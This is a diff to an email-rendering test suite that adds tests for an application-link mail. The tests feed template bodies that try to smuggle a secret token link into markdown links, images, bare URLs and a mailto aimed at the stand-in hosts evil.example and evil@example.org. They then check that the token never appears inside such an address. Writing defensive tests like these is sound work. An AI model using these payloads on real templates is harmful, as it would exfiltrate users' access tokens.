@@ -217,6 +217,37 @@ describe('A rendered mail', () => {
     for (const wrong of ['Somebody applied', '{{offer}} {{salary}}', ' ', '{{offer}} {{constructor}}'])
       expect(subject(wrong), wrong).toBe(filled(en.agencyApplication.subject, 'a offer'));
   });
+
+  it.each([
+    '[Open](https://evil.example/?x={{link}})',
+    '[Open](<https://evil.example/?x= {{link}} y>)',
+    '![Open](https://evil.example/{{link}})',
+    '[Open][to]\n\n[to]: https://evil.example/?x={{link}}',
+    'https://evil.example/?x={{link}}',
+    'evil.example/?{{link}}',
+    '[Open](//evil.example/{{link}})',
+    '[Write](mailto:evil@example.org?body={{link}})',
+    '[Open]({{link}}) [Open](https://evil.example/?x=&#123;{link}})',
+    '[Open]({{link}}) [Open](https://evil.example/?x=\\{\\{link}})',
+    'evil.example/?**{{link}}**',
+  ])('keeps a secret address out of another one: %s', (published) => {
+    const { html, text } = render('application-link', {}, { 'mail:applicationLink.body': published });
+    const secret = /https:\/\/colombage\.example\/en\/page#token/;
+    for (const part of [html, text]) {
+      expect(part).toMatch(secret);
+      expect(part).not.toMatch(/evil[^\s"<]*token/);
+      expect(part).not.toMatch(/token[^\s"<]*evil/);
+    }
+  });
+
+  it.each(['Open: {{link}}', '[Open]({{link}}).', 'Here it is\n{{link}}\nKeep it.'])(
+    'shows an address that stands alone: %s',
+    (published) => {
+      const { text } = render('application-link', {}, { 'mail:applicationLink.body': published });
+      expect(text).toContain('https://colombage.example/en/page#token');
+      expect(text).not.toContain('Here is the link you asked for.');
+    },
+  );
 });
 
 it('Mails have the colours of the brand', () => {
